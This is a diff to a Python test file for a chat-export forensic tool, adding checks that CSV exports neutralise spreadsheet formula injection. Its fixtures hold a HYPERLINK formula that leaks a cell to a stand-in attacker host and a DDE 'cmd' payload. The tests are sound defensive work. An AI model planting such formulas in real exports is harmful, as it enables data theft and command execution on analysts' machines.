@@ -29,6 +29,7 @@ from conftest import BACKENDS
 from test_demo_case import Demo, demo, import_all, match_demo  # noqa: F401 (demo is a fixture)
 from veilleur.analysis.exchanges import flagged_exchanges
 from veilleur.case import Case, init_case
+from veilleur.custody.audit import tail
 from veilleur.demo.check import store_key
 from veilleur.lists import LIST_TABLES, import_list
 from veilleur.matching.results import FlaggedFile, Hit, current_run, flagged_files
@@ -239,13 +240,19 @@ def _jsonl_rows(path: Path) -> list[dict[str, Any]]:
     return [orjson.loads(line) for line in path.read_bytes().splitlines()]
 
 
+FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r")  # OWASP, CSV injection
+
+
 def _as_cell(value: Any) -> str:
+    """The CSV cell of a JSON Lines value: text a spreadsheet would run gets a leading apostrophe."""
     if value is None:
         return ""
     if isinstance(value, bool):
         return "true" if value else "false"
     if isinstance(value, (list, dict)):
         return orjson.dumps(value).decode("utf-8")
+    if isinstance(value, str) and value.startswith(FORMULA_FIRST):
+        return "'" + value
     return str(value)
 
 
@@ -259,6 +266,100 @@ def test_csv_and_jsonl_hold_the_same_rows_with_their_headers(exported: Exported)
         assert [{k: _as_cell(v) for k, v in o.items()} for o in objects] == rows, table
         manifest = json.loads((csv_dir / MANIFEST).read_text(encoding="utf-8"))
         assert {f["path"]: f["rows"] for f in manifest["files"]}[f"{table}.csv"] == len(rows)
+        neutralised = sum(
+            isinstance(v, str) and v.startswith(FORMULA_FIRST) for o in objects for v in o.values()
+        )
+        assert {f["path"]: f["neutralised_cells"] for f in manifest["files"]}[f"{table}.csv"] == neutralised
+        assert manifest["formula_cells"] == "neutralised"
+
+
+HOSTILE_NAME = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")'
+HOSTILE_TEXTS = {
+    1: "=1+1",
+    2: "+41 is not a number here, it is a formula",
+    3: "-2+3",
+    4: "@SUM(1,2)",
+    5: "\t=cmd|' /C calc'!A0",
+    6: "\r=2*3",
+    7: "an ordinary message = fine",
+    8: "'already quoted",
+}
+
+
+def _hostile_export(root: Path) -> Path:
+    """A one-chat export whose sender's name and messages a spreadsheet would run as formulas."""
+    from veilleur.demo.tdesktop_json import JsonWriter, Message, Part, Peer
+
+    root.mkdir(parents=True)
+    sender = Peer("user", 7001, HOSTILE_NAME)
+    other = Peer("user", 7002, "@Marie")
+    buf = io.BytesIO()
+    w = JsonWriter(buf, 0, single_chat=True)
+    w.begin_dialog("private_group", 910, "-Groupe")
+    for i, text in HOSTILE_TEXTS.items():
+        who = sender if i % 2 else other
+        w.write_message(Message(i, 1_700_000_000 + 60 * i, who, (Part("plain", text),)))
+    w.end_dialog()
+    w.finish()
+    (root / "result.json").write_bytes(buf.getvalue())
+    return root
+
+
+def _by_message(path: Path) -> dict[str, dict[str, str]]:
+    return {r["message_id"]: r for r in _csv_rows(path)[1]}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_unless_raw_is_asked(
+    case: Case, tmp_path: Path
+) -> None:
+    from click.testing import CliRunner
+
+    from veilleur.cli import cli
+    from veilleur.ingest.importer import ImportOptions, import_export
+
+    import_export(case, _hostile_export(tmp_path / "export"), ImportOptions("tester"))
+    with case.engine.connect() as conn:
+        write_csv(conn, tmp_path / "safe")
+        write_csv(conn, tmp_path / "raw", raw=True)
+
+    safe = _by_message(tmp_path / "safe" / "messages.csv")
+    raw = _by_message(tmp_path / "raw" / "messages.csv")
+    for i, text in HOSTILE_TEXTS.items():
+        risky = text[0] in "=+-@\t\r"
+        assert safe[str(i)]["text"] == ("'" + text if risky else text), i
+        assert raw[str(i)]["text"] == text, i
+        # Names are case text too; numbers Veilleur writes are not touched.
+        name = HOSTILE_NAME if i % 2 else "@Marie"
+        assert (safe[str(i)]["sender_name"], raw[str(i)]["sender_name"]) == ("'" + name, name)
+        assert safe[str(i)]["byte_offset"] == raw[str(i)]["byte_offset"]
+        assert safe[str(i)]["byte_offset"].isdigit()
+    accounts_csv = _csv_rows(tmp_path / "safe" / "accounts.csv")[1]
+    (hostile,) = [r for r in accounts_csv if r["key"].endswith("7001")]
+    assert json.loads(hostile["display_names"]) == [HOSTILE_NAME]  # a JSON cell begins with [
+    safe_manifest = json.loads((tmp_path / "safe" / MANIFEST).read_text(encoding="utf-8"))
+    raw_manifest = json.loads((tmp_path / "raw" / MANIFEST).read_text(encoding="utf-8"))
+    assert (safe_manifest["formula_cells"], raw_manifest["formula_cells"]) == ("neutralised", "raw")
+    counted = {f["path"]: f["neutralised_cells"] for f in safe_manifest["files"]}
+    # The 6 risky texts and the 8 sender names.
+    assert counted["messages.csv"] == 6 + 8
+    assert all(f["neutralised_cells"] == 0 for f in raw_manifest["files"])
+    assert any("apostrophe" in n for n in safe_manifest["notes"])
+
+    # The same through the command line, the choice recorded in the export's audit entry.
+    runner = CliRunner()
+    base = ["--case", str(case.root), "--operator", "tester"]
+    for flag, expected in (([], "'=1+1"), (["--raw-csv"], "=1+1")):
+        out = tmp_path / f"cli{len(flag)}"
+        result = runner.invoke(cli, [*base, "export", "csv", *flag, "--out", str(out)])
+        assert result.exit_code == 0, result.output
+        assert _by_message(out / "messages.csv")["1"]["text"] == expected
+        with case.engine.connect() as conn:
+            last = tail(conn, 1)[0]
+        assert last.action == "export.csv"
+        assert (last.details_value() or {})["formula_cells"] == ("raw" if flag else "neutralised")
+    refused = runner.invoke(cli, [*base, "export", "jsonl", "--raw-csv", "--out", str(tmp_path / "j")])
+    assert refused.exit_code != 0 and "only the csv format" in refused.output
+    assert not (tmp_path / "j").exists()
 
 
 def test_tables_match_the_case(exported: Exported, demo: Demo) -> None:  # noqa: F811
